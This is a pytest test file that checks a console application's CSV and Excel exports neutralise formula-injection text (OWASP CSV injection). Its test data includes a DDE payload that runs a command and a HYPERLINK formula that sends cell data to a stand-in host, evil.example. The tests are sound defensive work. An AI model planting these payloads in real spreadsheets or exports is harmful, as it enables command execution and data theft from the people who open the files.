"""Exports neutralise text a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from console.domain.exports import neutralise, write_csv_rows
from console.services.report_export import Document, Section, export_excel

NASTY = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", NASTY)
def test_neutralise(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("正常标题 =1") == "正常标题 =1"
    assert neutralise(-3) == -3 and neutralise(None) is None


def test_excel_report_cells_are_never_formulas(tmp_path: Path) -> None:
    doc = Document(
        "=1+1 日报",
        "2026-12-06",
        (
            Section(
                "cases",
                "工单",
                (("=标题", "text"), ("数量", "int")),
                tuple((t, -i) for i, t in enumerate(NASTY)),
                note="@note",
            ),
        ),
    )
    path = export_excel(doc, tmp_path / "daily.xlsx")
    ws = load_workbook(path).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # (a carriage return comes back from the file as a line break)
    assert {"'" + t.replace("\r", "\n") for t in NASTY} <= {t.replace("\r", "\n") for t in texts}
    assert -1 in {c.value for c in cells}  # numbers stay numbers


def test_csv_rows_are_neutralised() -> None:
    buf = io.StringIO()
    assert write_csv_rows(csv.writer(buf), [["=1+1", "ok", 5]]) == 1
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+1", "ok", "5"]
